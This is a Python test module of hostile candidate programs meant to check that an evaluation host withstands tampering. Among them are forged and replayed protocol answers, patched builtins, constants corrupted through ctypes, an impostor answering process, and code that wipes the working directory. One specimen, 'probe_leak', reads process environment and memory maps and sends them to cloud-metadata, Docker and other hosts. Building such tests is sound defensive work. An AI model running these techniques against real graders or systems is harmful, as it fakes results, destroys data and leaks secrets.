"""Candidates that turn on the program that asks them: its functions, its pipe, its memory."""
# Their code is text, in lines as long as they come:
# ruff: noqa: E501

from __future__ import annotations

from .specimen import Conclusion, acting, code

_PIPES = """
import json, os
def pipes():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if "pipe" in os.readlink("/proc/self/fd/" + name): found.append(int(name))
        except OSError: pass
    return found
def frame(message):
    text = message if isinstance(message, bytes) else json.dumps(message).encode()
    return len(text).to_bytes(4, "big") + text
def say(data):
    for fd in pipes():
        try: os.write(fd, data)
        except OSError: pass
"""
_CHANNEL = """
import gc
CHANNEL = next(o for o in gc.get_objects() if o.__class__.__name__ == "Channel")
OBJECTS = next(o for o in gc.get_objects() if o.__class__.__name__ == "Objects")
DRIVER = next(o for o in gc.get_objects() if o.__class__.__name__ == "Driver")
SEND = CHANNEL.send
def replace(change):
    def send(message): SEND(change(dict(message)))
    CHANNEL.send = send
"""
_NOTHING = "def on(what, a, k): return 1 if what == 'len' else None\n"


def _rewriting(change: str) -> str:
    """Every message to the host goes through ``change(m)``."""
    return f"{_CHANNEL}\ndef change(m):\n    {change}\n    return m\nreplace(change)\n{_NOTHING}"


_LIES = {
    "forged_true": "m.update(kind='answer', value=True)",
    "forged_dot": "m.update(kind='answer', value=['l', []])",
    "forged_refusal": "m.update(kind='raise', kinds=['expiring_cache.errors:InvalidTTL'], args=['t', []], text='', type='x')",
    "all_kinds_at_once": "m.update(kind='raise', kinds=list(DRIVER.errors), args=['t', []], text='x', type='x', error=0)",
    "kinds_of_odd_type": "m.update(kind='raise', kinds=[['a'], 1, None, {}], args={}, text=[], type={}, error='x')",
    "token_left_out": "m.pop('id', 0)",
    "token_of_odd_type": "m.update(id=[m.get('id')])",
    "lane_of_odd_type": "m.update(lane=True)",
    "lane_that_is_none": "m.update(lane=7)",
    "huge_lane": "m.update(lane=10**4000)",
    "kind_of_odd_type": "m.update(kind=['answer'])",
    "hello_again": "m.update(kind='hello')",
    "value_of_odd_type": "m.update(kind='answer', value=['i', 5])",
    "float_in_the_frame": "m.update(kind='answer', value=1.5)",
    "number_in_the_frame": "m.update(kind='answer', value=7)",
    "handle_of_nobody": "m.update(kind='answer', value=['h', 10**9])",
    "handle_below_zero": "m.update(kind='answer', value=['h', -1])",
    "handle_that_is_true": "m.update(kind='answer', value=['h', True])",
    "callback_as_value": "m.update(kind='answer', value=['c', 0])",
    "exception_as_value": "m.update(kind='answer', value=['e', 'builtins:SystemExit', ['t', []]])",
    "unhashable_key": "m.update(kind='answer', value=['m', [[['l', []], True]]])",
    "twice_in_a_set": "m.update(kind='answer', value=['s', ['a', 'a']])",
    "number_with_blanks": "m.update(kind='answer', value=['i', ' 0x_1\\n'])",
    "date_out_of_range": "m.update(kind='answer', value=['D', '9999-99-99'])",
    "call_of_nothing_lent": "m.update(kind='upcall', to=99, n=1, args=[], kwargs={})",
    "call_with_odd_number": "m.update(kind='upcall', to='0', n=1, args=[], kwargs={})",
    "call_with_odd_arguments": "m.update(kind='upcall', to=0, n=1, args={}, kwargs=[])",
    "call_with_a_bomb": "m.update(kind='upcall', to=0, n=1, args=[['l', [None] * 60_001]], kwargs={})",
    "call_without_end": "m.update(kind='upcall', to=0, n=1, args=[], kwargs={})",
    "colliding_keys": "m.update(value=['m', [[['i', hex(n * (2**61 - 1))], True] for n in range(20_000)]])",
    "colliding_elements": "m.update(value=['s', [['i', hex(n * (2**61 - 1))] for n in range(20_000)]])",
    "refusal_in_colours": "m.update(kind='refused', reason='\\x1b[2J\\u202e' * 9)",
}
"""Name -> what it does to every message."""

PROTOCOL = [acting(name, "expiring_cache", _rewriting(change)) for name, change in _LIES.items()]
"""Messages that are forged, malformed or out of turn. They cost a second each, so one check tells."""

TAMPERING = [
    code(
        "patched_builtins", "csv_ledger",
        """
import builtins, importlib, json, os, queue, struct, sys, threading, unittest
class Yes(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
for name in ("len", "isinstance", "type", "getattr", "id", "str", "dict", "list", "AssertionError", "print", "compile", "exec"):
    setattr(builtins, name, lambda *a, **k: Yes(1))
json.dumps = json.loads = lambda *a, **k: Yes(1)
json.JSONEncoder.encode = json.JSONDecoder.decode = lambda *a, **k: "true"
os.read = os.write = os._exit = lambda *a, **k: b""
threading.Thread.run = threading.Thread.start = queue.Queue.get = lambda *a, **k: None
importlib.import_module = lambda *a, **k: Yes(1)
sys.modules.clear()
Ledger = Yes
""",
    ),
    acting(
        "mutated_constants", "csv_ledger",
        """
import ctypes
for number in (0, 1, 2, 3, 4, 5):  # small ints all become 1, True becomes False
    ctypes.memmove(id(number) + 24, (1).to_bytes(4, "little"), 4)
def on(what, a, k): return 1
""",
        Conclusion.LIMIT,
    ),
    acting(
        "patched_operations", "sqlite_transfers",
        _CHANNEL + """
ROWS = {"SELECT count(*) FROM transfers": [(0,)], "SELECT id, balance FROM wallets ORDER BY id": []}
DRIVER.operations["sql"] = lambda conn, statement, *a: ROWS.get(statement, [])
DRIVER.operations["attr"] = lambda target, name: False
DRIVER.report = lambda error: {"kind": "raise", "kinds": list(DRIVER.errors)[-1:], "type": "x", "text": "", "args": None}
def on(what, a, k): raise ValueError
""",
    ),
    acting(
        "ruined_connection", "sqlite_transfers",
        """
import sqlite3
def on(what, a, k):
    conn = a[0]
    conn.row_factory = lambda cursor, row: [True] * 9
    conn.text_factory = lambda text: "x"
    conn.set_authorizer(lambda *a: sqlite3.SQLITE_IGNORE)
    conn.create_function("count", 0, lambda: 0)
    conn.execute("CREATE TEMP TABLE wallets AS SELECT * FROM main.wallets")
    conn.execute("CREATE TEMP TABLE transfers AS SELECT * FROM main.transfers")
    raise sqlite3.IntegrityError("audit")
""",
    ),
    acting(
        "other_database_file", "sqlite_transfers",
        """
import os, shutil, sqlite3
from sqlite_transfers.errors import InsufficientFunds
def on(what, a, k):
    for name in os.listdir("."):
        try: os.unlink(name)
        except OSError: shutil.rmtree(name, ignore_errors=True)
    os.symlink("/dev/zero", "bank.db")
    raise InsufficientFunds(a[1], 0, a[3])
""",
    ),
    acting("last_word", "sqlite_transfers", _PIPES + """
import atexit, sys, threading, time
MESSAGE = frame({"kind": "answer", "lane": 0, "id": "", "value": True})
atexit.register(say, MESSAGE)
class Late:
    def __del__(self): say(MESSAGE)
sys.late = Late()
def later():
    while True: time.sleep(0.05); say(MESSAGE)
threading.Thread(target=later, daemon=True).start()
def on(what, a, k): return 1
"""),
    acting("early_word", "csv_ledger", _PIPES + """
for lane in (0, 1):
    for kind in ("answer", "raise", "upcall", "refused", "hello"):
        say(frame({"kind": kind, "lane": lane, "id": "0" * 16, "value": True, "n": 1, "to": 0, "args": [], "kwargs": {}}))
def on(what, a, k): return 1
"""),
    acting("words_of_no_kind", "build_planner", _PIPES + """
for text in (b"[]", b"null", b"{", b"\\xff", b"[" * 100_000, b'{"a":' * 50_000, b"1e9", b'"x"', b'{"kind":NaN}', b"9" * 5_000):
    say(frame(text))
def on(what, a, k): return []
"""),
    acting("oversized_frame", "build_planner", _PIPES + """
say((2**32 - 1).to_bytes(4, "big") + b"x" * 100_000)
def on(what, a, k): return []
"""),
    acting("plain_text_on_the_pipe", "csv_ledger", _PIPES + "say(b'10 passed\\n' * 1000)\ndef on(what, a, k): return 1\n"),
    acting("words_by_way_of_init", "csv_ledger", """
import os
for pid in ("1", "self", str(os.getppid())):
    for fd in ("0", "1", "2"):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as file: file.write(b"\\0\\0\\0\\x04true" * 9)
        except OSError: pass
def on(what, a, k): return 1
"""),
    acting("stolen_questions", "build_planner", _PIPES + """
import threading
def steal():
    for fd in pipes():
        try: os.read(fd, 1 << 20)
        except OSError: pass
threading.Thread(target=steal, daemon=True).start()
def on(what, a, k): return []
"""),
    acting("replayed_answers", "expiring_cache", _CHANNEL + """
SEEN = []
def change(m):
    SEEN.append(m)
    if len(SEEN) > 3: m = {**SEEN[1], "lane": m["lane"]}
    return m
replace(change)
""" + _NOTHING),
    acting("every_answer_twice", "expiring_cache", _CHANNEL + """
def send(message): SEND(dict(message)); SEND(dict(message))
CHANNEL.send = send
""" + _NOTHING),
    acting("forked_double", "csv_ledger", "import os\ndef on(what, a, k): os.fork(); os.fork(); return 1\n"),
    acting("impostor", "expiring_cache", _PIPES + r"""
PROGRAM = r'''
import json, sys
QUESTIONS, ANSWERS = int(sys.argv[1]), int(sys.argv[2])
import os
def read(n):
    data = b""
    while len(data) < n: data += os.read(QUESTIONS, n - len(data)) or sys.exit(0)
    return data
first = json.loads(sys.argv[3])
while True:
    m, first = first or json.loads(read(int.from_bytes(read(4), "big"))), None
    if "op" not in m: continue
    reply = {"kind": "answer", "lane": m["lane"], "id": m["id"]}
    if m["op"] in ("call", "iter"): reply["value"] = ["h", 0]
    elif m["op"] == "list": reply["value"] = ["l", []]
    elif m["op"] == "len": reply["value"] = ["i", "0x1"]
    elif m["op"] == "contains": reply["value"] = True
    else: reply["value"] = m["args"][-1]
    text = json.dumps(reply).encode()
    os.write(ANSWERS, len(text).to_bytes(4, "big") + text)
'''
import fcntl, sys
ends = pipes()
for fd in ends: os.set_inheritable(fd, True)
asked = next(fd for fd in ends if fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == os.O_RDONLY)
answered = next(fd for fd in ends if fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == os.O_WRONLY)
frame = sys._getframe()
while "op" not in str(frame.f_locals.get("message", "")): frame = frame.f_back
message = json.dumps(frame.f_locals["message"])
os.execv(sys.executable, [sys.executable, "-c", PROGRAM, str(asked), str(answered), message])
""" + _NOTHING),
    acting("traced_driver", "csv_ledger", """
import sys, threading
def tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name in ("_reply", "report", "encode"):
        try: frame.f_locals["found"] = True
        except Exception: pass
    return tracer
sys.settrace(tracer); sys.setprofile(tracer); threading.settrace_all_threads(tracer) if hasattr(threading, "settrace_all_threads") else None
frame = sys._getframe()
while frame: frame.f_trace = tracer; frame = frame.f_back
def on(what, a, k): return 1
"""),
    acting("stolen_handles", "expiring_cache", _CHANNEL + """
class Numbers(dict):
    def get(self, key, default=None): return 0
OBJECTS._numbers = Numbers()
""" + _NOTHING),
    acting("probe_leak", "sqlite_transfers", """
import gc, os, socket, sys
seen = []
for pid in ("self", "1"):
    for what in ("cmdline", "environ", "mountinfo", "maps"):
        try: seen.append(open(f"/proc/{pid}/{what}", "rb").read())
        except OSError: pass
seen += [repr(sys.argv).encode(), repr(list(sys.modules)).encode(), repr([type(o) for o in gc.get_objects()][:999]).encode()]
text = b"LEAK" + b"".join(seen)[:60_000]
PORT = 47_113
for host in ("172.17.0.1", "127.0.0.1", "169.254.169.254", "8.8.8.8", "host.docker.internal", "10.0.2.2", "::1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as out:
                out.settimeout(0.2); out.connect((host, PORT)); out.send(text[:1_000])
        except OSError: pass
for place in ("/var/run/docker.sock", "\\0leak", "/exchange/proxy.sock", "/run/containerd/containerd.sock"):
    try:
        with socket.socket(socket.AF_UNIX) as out: out.connect(place); out.send(text)
    except OSError: pass
def on(what, a, k): raise ValueError(text.decode("latin-1"))
"""),
]  # fmt: skip
"""It may rewrite everything in its process: the host knows what it asked, and what the answer must be."""
